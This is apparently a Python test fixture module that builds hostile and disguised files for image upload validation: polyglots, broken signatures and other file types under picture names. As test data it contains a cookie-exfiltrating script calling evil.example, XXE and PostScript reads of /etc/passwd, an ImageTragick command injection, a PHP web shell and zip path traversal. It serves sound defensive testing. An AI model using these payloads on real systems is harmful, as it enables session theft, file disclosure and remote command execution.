"""Files of other kinds under a picture's name, and files that are two things at once."""

import gzip
import random
import struct
import zipfile
from collections.abc import Iterator
from io import BytesIO

from support.hostile import Hostile, case
from support.odd_files import CORRUPT, UNSUPPORTED
from support.pictures import encoded, photo

_SCRIPT = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
_POSTSCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\nshowpage\n"


def hostile() -> Iterator[Hostile]:
    """Yield every one."""
    for name, data in _others().items():
        yield case(f"{name} as a picture", data, UNSUPPORTED)
    yield case("nothing", b"", CORRUPT)
    for name, start in (("jpeg", b"\xff\xd8\xff"), ("png", b"\x89PNG\r\n\x1a\n")):
        yield case(f"{name} signature alone", start, CORRUPT)
        yield case(f"{name} signature, then html", start + _SCRIPT, CORRUPT)
        yield case(f"{name} signature, then zeros", start + bytes(50_000), CORRUPT)
        yield case(f"{name} signature, then noise", start + _noise(50_000), CORRUPT, UNSUPPORTED)
    yield case("webp signature alone", b"RIFF\x10\0\0\0WEBP", CORRUPT)
    yield case("webp signature, then noise", b"RIFF\x10\0\0\0WEBP" + _noise(5000), CORRUPT)
    yield from _polyglots()


def _noise(size: int) -> bytes:
    return random.Random(size).randbytes(size)


def _zip() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../../evil.py", "import os")
    return buffer.getvalue()


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def _others() -> dict[str, bytes]:
    image = photo(32, 32)
    by_pillow = ("GIF", "TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "AVIF", "JPEG2000", "PDF", "EPS")
    files = {kind.lower(): encoded(image, kind) for kind in by_pillow}
    external = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    return files | {
        "heic": _box(b"ftyp", b"heic\0\0\0\0mif1heic") + _box(b"meta", bytes(60)),
        "mp4": _box(b"ftyp", b"isom\0\0\2\0isomavc1") + _box(b"mdat", bytes(60)),
        "jpeg xl": b"\xff\x0a" + bytes(60),
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "svg with an entity": external.encode(),
        "imagetragick": b"push graphic-context\nimage over 0,0 0,0 'https://a\"|id\"'\npop",
        "postscript": _POSTSCRIPT,
        "html": _SCRIPT,
        "json": b'{"image": "../../etc/passwd"}',
        "csv": b"id,title\n1,not a picture\n",
        "zip": _zip(),
        "gzip": gzip.compress(encoded(image, "JPEG"), mtime=0),
        "elf": b"\x7fELF\2\1\1" + bytes(60),
        "photoshop": b"8BPS\0\1" + bytes(60),
        "one byte": b"\xff",
        "half a signature": b"\xff\xd8",
        "zeros": bytes(100_000),
        "noise": b"\0" + _noise(100_000),
        "blanks": b" " * 100_000,
        "base64 of a jpeg": b"/9j/4AAQSkZJRgABAQAAAQABAAD",
        "png in text mode": b"\x89PNG\n\x1a\n" + bytes(60),
    }


def _polyglots() -> Iterator[Hostile]:
    for kind in ("JPEG", "PNG", "WEBP"):
        picture = encoded(photo(40, 40), kind)
        name = kind.lower()
        for tail, after in (
            ("zip", _zip()),
            ("html", _SCRIPT),
            ("php", b"<?php system($_GET['c']); ?>"),
            ("pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"),
            ("itself", picture),
            ("a megabyte", _noise(1_000_000)),
        ):
            yield case(f"{name} and {tail}", picture + after, None)
        for head, before in (
            ("zip", _zip()),
            ("html", _SCRIPT),
            ("gif", b"GIF89a"),
            ("mark", b"\xef\xbb\xbf"),
        ):
            yield case(f"{head} and {name}", before + picture, UNSUPPORTED)
    plain = encoded(photo(40, 40), "JPEG")
    for name, body in (("html", _SCRIPT), ("javascript", b"*/=alert(1)/*"), ("zip", _zip())):
        comment = struct.pack(">BBH", 0xFF, 0xFE, len(body) + 2) + body
        yield case(f"jpeg with {name} inside", plain[:2] + comment + plain[2:], None)
